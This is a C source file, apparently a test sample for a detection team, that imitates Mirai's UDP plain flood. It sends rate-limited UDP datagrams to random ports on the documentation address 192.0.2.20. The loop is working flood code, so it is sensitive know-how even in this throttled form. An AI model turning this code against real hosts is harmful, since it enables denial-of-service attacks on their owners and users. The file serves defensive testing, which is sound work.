/*
 * udp_flooder.c - imitates the Mirai "udpplain" flood attack.
 *
 * TEST PROGRAM WRITTEN BY THE KANSOKU TEAM; it contains no real bot code and only targets TEST-NET-1.
 *
 * Imitated behaviour (published Mirai source, bot/attack_udp.c attack_udp_plain; Antonakakis et al., USENIX
 * Security 2017, section 6 "attacks"; MITRE ATT&CK T1498.001): an ordinary UDP socket sends datagrams of a fixed
 * size (Mirai's default 512 bytes) to the victim, with a random destination port per packet when none is given.
 * Here the victim is 192.0.2.20, the payload is a fixed pattern, and the rate is limited.
 * Usage: udp_flooder [SECONDS]   env: KANSOKU_SAMPLE_SECONDS, KANSOKU_SAMPLE_RATE (packets/s, default 100),
 * KANSOKU_SAMPLE_SIZE (payload bytes, default 512), KANSOKU_SAMPLE_SEED.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "sample_common.h"

static const uint32_t kVictim = 0xC0000214u; /* 192.0.2.20 */

int main(int argc, char** argv) {
    sample_init("udp_flooder");
    sample_rng_seed();
    long seconds = sample_seconds(argc, argv, 3);
    long rate = sample_env_number("KANSOKU_SAMPLE_RATE", 100);
    long size = sample_env_number("KANSOKU_SAMPLE_SIZE", 512);
    if (rate <= 0)
        rate = 1;
    if (rate > 10000)
        rate = 10000;
    if (size > 1400)
        size = 1400;

    static char payload[1400];
    memset(payload, 'K', sizeof payload);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0) {
        sample_log("socket: failed (%s)", strerror(errno));
        return 0;
    }
    char text[16];
    sample_log("flood: start victim=%s ports=random size=%ld rate=%ld/s seconds=%ld",
               sample_ip_text(kVictim, text, sizeof text), size, rate, seconds);
    uint64_t start = sample_now_ms();
    uint64_t end = start + (uint64_t)seconds * 1000u;
    uint64_t next_report = start + 1000u;
    unsigned long sent = 0, failed = 0, sent_at_report = 0;
    int last_errno = 0;
    for (unsigned long i = 0;; ++i) {
        uint64_t due = start + i * 1000u / (uint64_t)rate;
        if (due >= end)
            break;
        uint64_t now = sample_now_ms();
        if (due > now)
            sample_sleep_ms(due - now);
        struct sockaddr_in to;
        memset(&to, 0, sizeof to);
        to.sin_family = AF_INET;
        to.sin_port = htons((uint16_t)(1u + sample_rand() % 65535u));
        to.sin_addr.s_addr = htonl(kVictim);
        if (sendto(fd, payload, (size_t)size, MSG_NOSIGNAL, (struct sockaddr*)&to, sizeof to) == size) {
            ++sent;
        } else {
            ++failed;
            last_errno = errno;
        }
        if (sample_now_ms() >= next_report) {
            sample_log("flood: %lu packets in the last second", sent - sent_at_report);
            sent_at_report = sent;
            next_report += 1000u;
        }
    }
    close(fd);
    sample_log("flood: done sent=%lu failed=%lu bytes=%lu elapsed=%.1fs%s%s", sent, failed, sent * (unsigned long)size,
               (double)(sample_now_ms() - start) / 1000.0, failed ? " last_error=" : "",
               failed ? strerror(last_errno) : "");
    return 0;
}
